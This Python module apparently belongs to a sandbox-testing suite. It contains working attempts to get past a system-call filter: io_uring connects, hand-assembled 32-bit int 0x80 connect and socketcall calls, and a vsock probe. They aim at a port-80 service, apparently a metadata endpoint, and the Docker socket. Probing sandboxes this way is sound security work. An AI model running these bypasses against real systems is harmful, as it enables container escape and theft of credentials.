"""Attempts that go round a filter of system calls."""

import ctypes
import errno
import mmap
import os
import socket
import struct

import libc
from attack import NotHere, PLACES, attempt
from network import REQUEST, V4, answer, sockaddr

IORING_OP_CONNECT, IORING_ENTER_GETEVENTS = 16, 1
IORING_OFF_SQES = 0x10000000


def ring_connect(descriptor, address):
    """Connects by io_uring, for which no filter sees a call of connect."""
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall("io_uring_setup", 4, parameters)
    words = struct.unpack("30I", parameters.raw)
    tail, mask, array = words[11], words[12], words[16]  # io_sqring_offsets: head, tail, ring_mask, entries, flags, dropped, array
    submission = mmap.mmap(ring, array + 4 * words[0])
    entries = mmap.mmap(ring, 64 * words[0], offset=IORING_OFF_SQES)
    buffer = ctypes.create_string_buffer(address, len(address))
    # struct io_uring_sqe: opcode, flags, ioprio, fd, off (the length of the address), addr, len
    entries[:64] = struct.pack("=BBHiQQI", IORING_OP_CONNECT, 0, 0, descriptor, len(address), ctypes.addressof(buffer), 0).ljust(64, b"\0")
    at = struct.unpack_from("I", submission, tail)[0]
    struct.pack_into("I", submission, array + 4 * (at & struct.unpack_from("I", submission, mask)[0]), 0)
    struct.pack_into("I", submission, tail, at + 1)
    libc.syscall("io_uring_enter", ring, 1, 1, IORING_ENTER_GETEVENTS, None, 0)


@attempt("io-uring-metadata")
def io_uring_metadata():
    with socket.socket() as client:
        ring_connect(client.fileno(), sockaddr(V4, 80))
        client.sendall(REQUEST)
        return answer(client)


@attempt("io-uring-socket")
def io_uring_socket():
    with socket.socket(socket.AF_UNIX) as client:
        ring_connect(client.fileno(), struct.pack("=H", socket.AF_UNIX) + b"/run/docker.sock\0")
        return answer(client)


def int80(number, *arguments):
    """Makes a system call of 32-bit x86, which has other numbers."""
    if not libc.X86:
        raise NotHere("only x86 has it")
    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)  # MAP_32BIT
    # push rbx; mov eax, number; mov ebx, ecx, edx; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + struct.pack("I", number)
    code += b"".join(op + struct.pack("I", word) for op, word in zip((b"\xbb", b"\xb9", b"\xba"), arguments))
    low.write(code + b"\xcd\x80\x5b\xc3")
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(low)))()
    if result < 0:
        raise OSError(-result, "int 0x80: " + os.strerror(-result))
    return result


@attempt("metadata-32-bit")
def metadata_32_bit():
    data = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
    data.write(sockaddr(V4, 80))
    with socket.socket() as client:
        int80(362, client.fileno(), ctypes.addressof(ctypes.c_char.from_buffer(data)), 16)  # connect
        client.sendall(REQUEST)
        return answer(client)


@attempt("socketcall-32-bit")
def socketcall_32_bit():
    data = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
    address = ctypes.addressof(ctypes.c_char.from_buffer(data))
    with socket.socket() as client:
        data.write(sockaddr(V4, 80) + struct.pack("III", client.fileno(), address, 16))
        int80(102, 3, address + 16)  # socketcall, SYS_CONNECT
        client.sendall(REQUEST)
        return answer(client)


@attempt("vsock")
def vsock():
    """A socket to the machine's hypervisor, which no network namespace closes; connects nowhere."""
    try:
        socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    except OSError as error:
        if error.errno == errno.EAFNOSUPPORT and not PLACES["has_vsock"]:
            raise NotHere("no vsock") from error
        raise
    return b"opened"
